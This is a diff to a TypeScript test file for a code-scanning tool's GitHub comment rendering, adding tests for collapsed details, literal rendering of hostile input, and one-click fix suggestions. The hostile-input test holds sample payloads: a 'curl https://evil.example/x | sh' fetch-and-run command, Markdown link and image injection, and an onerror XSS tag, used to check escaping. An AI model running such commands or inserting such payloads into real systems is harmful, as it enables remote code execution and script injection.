@@ -11,6 +11,12 @@ import { publishInlineComments, type InlineComment } from "../src/ci/github/revi
 import { upsertSummaryComment } from "../src/ci/github/summary-comment.js";
 import { additionPatch, startMockGitHub, type MockGitHub } from "./ci-mock-github.js";
 import { makeFinding, makeRule } from "./ci-support.js";
+import { marked } from "marked";
+
+/** GitHub-flavoured Markdown rendered to HTML, as GitHub shows a comment. */
+function rendered(markdown: string): string {
+  return marked.parse(markdown, { gfm: true, async: false }) as string;
+}
 
 const TOKEN = "ghs_0123456789abcdefghijABCDEFGHIJ0123456789";
 const HEAD = "c".repeat(40);
@@ -109,7 +115,49 @@ describe("markdown bodies", () => {
     assert.match(body, /How to fix:\*\* Use a data-only format/);
     assert.match(body, /\[CWE-502\]\(https:\/\/cwe\.mitre\.org\/data\/definitions\/502\.html\)/);
     assert.match(body, /OWASP A08:2021/);
-    assert.match(body, /\[Rule documentation\]\(https:\/\/pf\.example\/rules\/PYTHON-LANG-SEC-040\)/);
+    assert.match(body, /\[Rule documentation\]\(https:\/\/pf\.example\/blob\/main\/docs\/rules\/PYTHON-LANG-SEC-040\.md\)/);
+    assert.match(body, /<details><summary>Details<\/summary>[\s\S]*Why this is dangerous[\s\S]*<\/details>/, "details are collapsed");
+  });
+
+  it("renders hostile file names and messages as literal text: no links, images, HTML or mentions", () => {
+    const hostileFile = "[x](https://evil.example).py";
+    const hostileMessage =
+      "pickle calls os.system('curl https://evil.example/x | sh') @octocat ![img](https://evil.example/i.png) <img src=x onerror=alert(1)> **bold** #123";
+    const finding = makeFinding(hostileFile, 3, { message: hostileMessage, ruleName: "[click](https://evil.example)" });
+    const summary = renderSummary({
+      tool: { name: "pathfinder", version: "1.0.0", informationUri: "https://pf.example" },
+      introduced: [finding],
+      preexisting: [],
+      notInline: [finding],
+      baselined: 0,
+      linkTo: (f) => `https://github.com/acme/app/blob/sha/${encodeURIComponent(f.location.file).replace(/[()]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`)}#L3`,
+      pathOf: (f) => f.location.file,
+    });
+    const inline = renderInlineComment(finding, makeRule(finding.ruleId), "https://pf.example/");
+    for (const body of [summary, inline]) {
+      const html = rendered(body);
+      assert.doesNotMatch(html, /href="https:\/\/evil/, html);
+      assert.doesNotMatch(html, /<img/, html);
+      assert.doesNotMatch(html, /<strong>bold/, html);
+      assert.match(html, /@\u200boctocat/);
+    }
+    // The file's link still points at the file, and its visible name is the literal name.
+    assert.match(rendered(summary), /<a href="https:\/\/github\.com\/acme\/app\/blob\/sha\/%5Bx%5D%28https%3A%2F%2Fevil\.example%29\.py#L3">\[x\]\(https:\/\u200b\/evil\.example\)\.py:3<\/a>/);
+  });
+
+  it("offers an automatic fix on the finding's line as a one-click suggestion", () => {
+    const finding = makeFinding("app.py", 4, {
+      ruleId: "PYTHON-LANG-SEC-041",
+      location: { file: "app.py", line: 4, column: 11, endLine: 4, endColumn: 28, snippet: "    cfg = yaml.load(text, Loader=yaml.Loader)" },
+      fix: {
+        description: "Use yaml.safe_load",
+        edits: [{ line: 4, column: 11, endLine: 4, endColumn: 20, newText: "yaml.safe_load" }, { line: 4, column: 25, endLine: 4, endColumn: 45, newText: "" }],
+      },
+    });
+    const body = renderInlineComment(finding, makeRule(finding.ruleId), undefined);
+    assert.match(body, /```suggestion\n    cfg = yaml\.safe_load\(text\)\n```/);
+    const multiLine = { ...finding, location: { ...finding.location, endLine: 5 } };
+    assert.doesNotMatch(renderInlineComment(multiLine, undefined, undefined), /suggestion/);
   });
 });
 
